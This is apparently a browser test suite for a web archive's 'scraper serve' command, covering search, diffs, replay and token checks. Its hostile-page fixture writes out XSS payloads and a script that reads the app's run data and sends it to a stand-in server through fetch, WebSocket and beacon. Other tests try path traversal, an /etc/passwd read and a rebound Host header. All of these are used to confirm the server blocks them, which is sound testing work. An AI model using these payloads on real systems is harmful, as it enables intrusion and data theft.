"""`scraper serve` in a real browser: Debian's headless Chromium driven by Selenium, against the real server.

The archive comes from a live crawl of a loopback site (a story whose text changes between two
crawls, its style sheet archived as a requisite) and a replayed hostile page. Selenium is given
/usr/bin/chromium and /usr/bin/chromedriver and SE_AVOID_STATS=true, so it downloads nothing and
reports nothing; the tests check from Chrome's own logs that every request the browser made went
to the server (the app's port or the replay port) and, for the hostile page, that a loopback
"live web" server it tries to reach is never asked.
"""

from __future__ import annotations

import contextlib
import http.client
import json
import os
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import ROOT, Cli, copy_archive, need
from tests.loopback import LoopbackSite
from tests.pywb import PYWB_BIN, need_pywb
from tests.test_serve import _response, _story, gc_warc

pytestmark = pytest.mark.slow

CHROMIUM = Path("/usr/bin/chromium")
CHROMEDRIVER = Path("/usr/bin/chromedriver")
STYLE = b"body { background: rgb(250, 240, 230); }"
BACKGROUND = "rgb(250, 240, 230)"  # the archived style sheet's colour, as the browser computes it
TOKEN = "browser-test-token-0123"
SCREENSHOTS_ENV = "SERVE_SCREENSHOTS"


def _free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


class _Site(BaseHTTPRequestHandler):
    """The news site: one story (its text changes with `version`) and its style sheet."""

    version = 1

    def do_GET(self) -> None:
        if self.path == "/style.css":
            body, media = STYLE, "text/css"
        else:
            body, media = _story(_Site.version).encode(), "text/html; charset=utf-8"
        self.send_response(200)
        self.send_header("Content-Type", media)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: Any) -> None:
        pass


class _LiveWeb(BaseHTTPRequestHandler):
    """Stands for the live web: it counts every request; replay must never make one."""

    asked: list[str] = []  # noqa: RUF012 - one list the test reads

    def do_GET(self) -> None:
        _LiveWeb.asked.append(self.path)
        self.send_response(204)
        self.end_headers()

    do_POST = do_GET

    def log_message(self, *args: Any) -> None:
        pass


def _hostile_page(live: str, app: str) -> bytes:
    """Return a page whose title, text, attributes and scripts try to run in the app or reach out."""
    return (
        "<!doctype html><html lang='en'><head><title>&lt;script&gt;window.pwned=2&lt;/script&gt; Hostile harbour"
        "</title></head><body><article><h1>Hostile harbour &lt;img src=x onerror=window.pwned=3&gt;</h1>"
        + "".join(
            "<p>The harbour masons met the keeper about the lighthouse, the quay and the old stone walls, "
            f"and &lt;script&gt;window.pwned=4&lt;/script&gt; was written on the wall {n}.</p>"
            for n in range(5)
        )
        + f"<p><a id='js' href='javascript:window.pwned=5'>a javascript: link</a>"
        f"<img src='{live}/pixel.png' onerror='window.pwned=6'></p>"
        "<script>"
        "window.pwned = 8;"
        "try { parent.document.title = 'pwned'; } catch (e) {}"
        "try { top.pwned = 9; } catch (e) {}"
        f"var tries = [fetch('{live}/fetch'), fetch('{app}/api/runs').then(function (r) {{ return r.text(); }})"
        f"  .then(function (t) {{ return fetch('{live}/stolen?' + encodeURIComponent(t)); }})];"
        f"try {{ new WebSocket('{live.replace('http', 'ws')}/socket'); }} catch (e) {{}}"
        f"try {{ navigator.sendBeacon('{live}/beacon', 'x'); }} catch (e) {{}}"
        "Promise.allSettled(tries).then(function () { window.settled = 1; });"
        "</script></article></body></html>"
    ).encode()


@dataclass
class Served:
    """A running `scraper serve`: its app and replay origins, the live-web stand-in, where screenshots go."""

    app: str
    replay: str
    live: str
    process: subprocess.Popen[bytes]
    log: Path

    def get(self, path: str, port: str = "app", headers: dict[str, str] | None = None) -> tuple[int, bytes]:
        """Return (status, body) for a raw GET of `path` (sent as is: no client normalizes it)."""
        origin = self.app if port == "app" else self.replay
        host, _, number = origin.removeprefix("http://").partition(":")
        connection = http.client.HTTPConnection(host, int(number), timeout=30)
        try:
            connection.request("GET", path, headers=headers or {})
            answer = connection.getresponse()
            return answer.status, answer.read()
        finally:
            connection.close()


def _need_browser() -> None:
    need(CHROMIUM.is_file() and CHROMEDRIVER.is_file(), "Debian's chromium and chromium-driver are not installed")
    need_pywb()


def _build_archive(work: Path, live: str, app: str) -> Cli:
    cli = Cli(cwd=work, data=work / "data", db=f"sqlite:///{work / 'catalog.sqlite'}")
    crawl = ["--requisites", "--depth", "0", "--delay", "0", "--allow-network", "127.0.0.1/32"]
    with LoopbackSite(_Site) as site:
        for version in (1, 2):
            _Site.version = version
            cli("crawl", f"{site.base}/harbour-story", *crawl, check=True)
    hostile = work / "in" / "hostile.warc.gz"
    hostile.parent.mkdir(parents=True)
    with gc_warc(hostile) as writer:
        url = 'http://evil.example/page?q="><script>window.pwned=1</script>'
        _response(writer, url, _hostile_page(live, app), "text/html; charset=utf-8", "2026-01-11T08:00:00Z")
    cli("replay", str(hostile.parent), check=True)
    return cli


@contextlib.contextmanager
def _serve(cli: Cli, work: Path, *extra: str, ports: tuple[int, int] | None = None) -> Iterator[Served]:
    app_port, replay_port = ports or (_free_port(), _free_port())
    log = work / f"serve-{app_port}.log"
    env = {**os.environ, **cli.env(), "PYTHONWARNINGS": "error"}
    args = ["--port", str(app_port), "--replay-port", str(replay_port), "--pywb", str(PYWB_BIN / "wayback"), *extra]
    with open(log, "wb") as out:
        process = subprocess.Popen(
            [sys.executable, "-m", "archive.cli", "serve", *args], cwd=work, env=env, stdout=out, stderr=out
        )
    served = Served(f"http://127.0.0.1:{app_port}", f"http://127.0.0.1:{replay_port}", "", process, log)
    try:
        _wait_for_replay(served, {"Authorization": f"Bearer {TOKEN}"} if "--token" in extra else {})
        yield served
    finally:
        process.terminate()
        process.wait(timeout=30)


def _wait_for_replay(served: Served, headers: dict[str, str]) -> None:
    deadline = time.monotonic() + 90
    while time.monotonic() < deadline:
        assert served.process.poll() is None, served.log.read_text()
        with contextlib.suppress(OSError):
            status, _ = served.get("/archive/", "replay", headers)
            if status != 503:
                return
        time.sleep(0.3)
    raise AssertionError(f"replay did not come up: {served.log.read_text()}")


@dataclass
class Site:
    cli: Cli
    work: Path
    ports: tuple[int, int]
    live: LoopbackSite


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    _need_browser()
    work = tmp_path_factory.mktemp("serve-browser")
    ports = (_free_port(), _free_port())
    with LoopbackSite(_LiveWeb) as live:
        cli = _build_archive(work, live.base, f"http://127.0.0.1:{ports[0]}")
        yield Site(cli, work, ports, live)


@pytest.fixture(scope="module")
def served(site: Site) -> Iterator[Served]:
    with _serve(site.cli, site.work, ports=site.ports) as running:
        running.live = site.live.base
        yield running


@pytest.fixture
def browser() -> Iterator[Any]:
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service

    os.environ["SE_AVOID_STATS"] = "true"  # Selenium Manager sends no usage statistics (and is not run: paths given)
    options = webdriver.ChromeOptions()
    options.binary_location = str(CHROMIUM)
    for flag in (
        "--headless=new",
        "--no-sandbox",  # CI runs as root
        "--disable-dev-shm-usage",
        "--disable-gpu",
        "--window-size=1280,1000",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-default-apps",
        "--disable-sync",
        "--no-first-run",
        "--no-default-browser-check",
        "--metrics-recording-only",
        "--disable-features=OptimizationHints,MediaRouter,Translate",
    ):
        options.add_argument(flag)
    options.set_capability("goog:loggingPrefs", {"browser": "ALL", "performance": "ALL"})
    driver = webdriver.Chrome(options=options, service=Service(executable_path=str(CHROMEDRIVER)))
    driver.set_page_load_timeout(60)
    try:
        yield driver
    finally:
        driver.quit()


def _requests(driver: Any) -> list[str]:
    """Return the URL of every request the browser's pages and frames sent since the last call."""
    urls = []
    for entry in driver.get_log("performance"):
        message = json.loads(entry["message"])["message"]
        if message["method"] == "Network.requestWillBeSent":
            urls.append(message["params"]["request"]["url"])
    return urls


def _outside(urls: list[str], served: Served) -> list[str]:
    return [u for u in urls if not u.startswith((served.app + "/", served.replay + "/", "data:", "blob:", "about:"))]


def _errors(driver: Any) -> list[str]:
    return [entry["message"] for entry in driver.get_log("browser") if entry["level"] == "SEVERE"]


def _wait(driver: Any, condition: Any, seconds: float = 30) -> Any:
    from selenium.webdriver.support.ui import WebDriverWait

    return WebDriverWait(driver, seconds).until(condition)


def _shots() -> Path | None:
    given = os.environ.get(SCREENSHOTS_ENV)
    return Path(given) if given else None


def test_search_record_diff_replay_in_the_browser(served: Served, browser: Any, tmp_path: Path) -> None:
    from selenium.webdriver.common.by import By

    shots = _shots() or tmp_path / "screenshots"
    shots.mkdir(parents=True, exist_ok=True)
    browser.get(served.app + "/")
    box = browser.find_element(By.ID, "q")
    box.send_keys("lighthouse council")
    browser.find_element(By.ID, "search-button").click()
    _wait(browser, lambda d: d.find_elements(By.ID, "hits"))
    assert browser.find_element(By.ID, "total").text == "2 records"
    assert "lighthouse" in browser.current_url and "council" in browser.current_url  # a URL to share
    marked = {m.text.lower() for m in browser.find_elements(By.CSS_SELECTOR, "#hits mark")}
    assert "lighthouse" in marked
    assert marked <= {"lighthouse", "council"}
    browser.save_screenshot(str(shots / "search.png"))

    newest = browser.find_elements(By.CSS_SELECTOR, "#hits .hit a.title")
    assert [a.text for a in newest] == ["Lighthouse repairs at the harbour"] * 2
    browser.get(served.app + "/?q=voted")  # only the second version says so
    browser.find_element(By.CSS_SELECTOR, "#hits .hit a.title").click()
    _wait(browser, lambda d: d.find_elements(By.ID, "record"))
    assert browser.find_element(By.ID, "title").text == "Lighthouse repairs at the harbour"
    assert browser.find_element(By.ID, "authors").text == "Ada Quay"
    assert "On Thursday the council voted" in browser.find_element(By.ID, "text").text
    versions = browser.find_element(By.ID, "versions").text
    assert "v1" in versions and "v2" in versions
    browser.save_screenshot(str(shots / "record.png"))

    browser.find_element(By.ID, "diff-button").click()
    _wait(browser, lambda d: d.find_elements(By.ID, "diff"))
    added = [e.text for e in browser.find_elements(By.CSS_SELECTOR, "#diff .added")]
    removed = [e.text for e in browser.find_elements(By.CSS_SELECTOR, "#diff .removed")]
    assert added == ["+On Thursday the council voted to fund the repairs in full, and work starts in spring."]
    assert removed == ["-The council has not yet decided whether to pay for the repairs this year."]
    browser.save_screenshot(str(shots / "diff.png"))

    browser.back()
    browser.find_element(By.ID, "replay-link").click()
    frame = _wait(browser, lambda d: d.find_element(By.ID, "replay"))
    assert frame.get_attribute("src").startswith(served.replay + "/")
    browser.switch_to.frame(frame)
    _wait(browser, lambda d: "voted to fund" in d.find_element(By.TAG_NAME, "body").text)
    # The style sheet came from the archive (the site that served it is gone): the page looks as captured.
    _wait(browser, lambda d: d.execute_script("return getComputedStyle(document.body).backgroundColor") == BACKGROUND)
    browser.switch_to.default_content()
    browser.save_screenshot(str(shots / "replay.png"))

    for path in ("/stories", "/sites", "/runs"):
        browser.get(served.app + path)
        assert browser.find_element(By.TAG_NAME, "h1").text == path[1:].capitalize()
    browser.save_screenshot(str(shots / "runs.png"))

    assert _errors(browser) == []
    urls = _requests(browser)
    assert any(u.startswith(served.replay + "/archive/") and u.endswith("/style.css") for u in urls)
    assert _outside(urls, served) == []


def test_hostile_capture_runs_nothing_in_the_app_and_reaches_nothing(served: Served, browser: Any) -> None:
    from selenium.webdriver.common.by import By

    _LiveWeb.asked.clear()
    browser.get(served.app + "/?q=masons+keeper")
    hit = browser.find_element(By.CSS_SELECTOR, "#hits .hit a.title")
    assert hit.text == "Hostile harbour <img src=x onerror=window.pwned=3>"  # the h1, as trafilatura chose
    hit.click()
    _wait(browser, lambda d: d.find_elements(By.ID, "record"))
    assert browser.find_element(By.ID, "url").text == 'http://evil.example/page?q="><script>window.pwned=1</script>'
    assert "<script>window.pwned=4</script> was written" in browser.find_element(By.ID, "text").text
    record_url = browser.current_url
    for path in ("", "/source"):
        browser.get(record_url + path)
        assert browser.execute_script("return typeof window.pwned") == "undefined"
        assert browser.find_elements(By.CSS_SELECTOR, "a[href^='javascript:'], [onerror], main script") == []

    browser.get(record_url + "/replay")
    frame = _wait(browser, lambda d: d.find_element(By.ID, "replay"))
    browser.switch_to.frame(frame)
    _wait(browser, lambda d: "Hostile harbour" in d.find_element(By.TAG_NAME, "h1").text)
    # The archived page's script ran, as captured, inside its frame; its fetches have had their answers.
    _wait(browser, lambda d: d.execute_script("return window.settled") == 1)
    assert browser.execute_script("return window.pwned") in (6, 8)  # its own script, or its own onerror
    browser.find_element(By.ID, "js").click()  # a javascript: link runs in the frame, if anywhere
    browser.switch_to.default_content()
    assert browser.execute_script("return typeof window.pwned") == "undefined"
    # The archived page did not rename the app's page (its `parent.document.title =` stayed in its frame).
    assert browser.title == "replay of Hostile harbour <img src=x onerror=window.pwned=3> · scraper serve"
    assert _LiveWeb.asked == []
    assert _outside(_requests(browser), served) == []


def test_paths_outside_the_data_folder_are_refused_by_the_server(served: Served) -> None:
    secret = (ROOT / "pyproject.toml").read_bytes()
    for path in (
        "/static/../../../pyproject.toml",
        "/static/%2e%2e/%2e%2e/%2e%2e/pyproject.toml",
        "/../catalog.sqlite",
    ):
        status, body = served.get(path)
        assert status == 404
        assert body != secret
        assert b"SQLite format" not in body
    status, body = served.get("/archive/20260101000000id_/file:///etc/passwd", "replay")
    assert b"root:" not in body
    for port in ("app", "replay"):  # a name rebound to 127.0.0.1 by a page elsewhere is not answered
        assert served.get("/", port, {"Host": f"rebound.example:{served.app.rpartition(':')[2]}"})[0] == 403


def test_the_token_is_enforced_on_both_ports(site: Site, browser: Any) -> None:
    from selenium.webdriver.common.by import By

    with _serve(site.cli, site.work, "--token", TOKEN) as running:
        for port in ("app", "replay"):
            assert running.get("/", port)[0] == 401
            assert running.get("/", port, {"Authorization": "Bearer not-the-token-at-all"})[0] == 401
            assert running.get("/", port, {"Authorization": f"Bearer {TOKEN}"})[0] != 401
        browser.get(running.app + "/?q=voted")
        assert "a token is needed" in browser.find_element(By.TAG_NAME, "body").text
        browser.get(running.app + f"/?q=voted&token={TOKEN}")
        browser.find_element(By.CSS_SELECTOR, "#hits .hit a.title").click()  # the cookie carries it on
        browser.find_element(By.ID, "replay-link").click()
        browser.switch_to.frame(_wait(browser, lambda d: d.find_element(By.ID, "replay")))
        _wait(browser, lambda d: "voted to fund" in d.find_element(By.TAG_NAME, "body").text)


def test_a_running_runs_progress_updates_without_reload(site: Site, browser: Any, tmp_path: Path) -> None:
    from dataclasses import replace

    from selenium.webdriver.common.by import By

    from archive.catalog.facade import Catalog

    copy = copy_archive(site.cli, tmp_path)
    writer = Catalog(copy.db)
    try:
        run = writer.start_crawl("crawl", {"urls": ["http://news.example/"]})
        with _serve(copy, tmp_path) as running:
            browser.get(running.app + "/runs")
            cell = browser.find_element(By.CSS_SELECTOR, f'tr[data-run="{run}"] .archived')
            assert cell.text == "0"
            marker = browser.execute_script("window.notReloaded = 1; return 1")  # gone if the page reloads
            earlier = list(writer.iter_records())[:2]
            archived = [
                replace(r, id=f"{n:032x}", provenance=replace(r.provenance, crawl_id=run))
                for n, r in enumerate(earlier)
            ]
            writer.add_records(archived)
            _wait(browser, lambda d: cell.text == "2")
            assert browser.execute_script("return window.notReloaded") == marker
            writer.finish_crawl(run, "finished", {"records_written": 2})
            _wait(
                browser, lambda d: d.find_element(By.CSS_SELECTOR, f'tr[data-run="{run}"] .status').text == "finished"
            )
            assert browser.find_element(By.ID, "runs-status").text == "0 running"
    finally:
        writer.close()
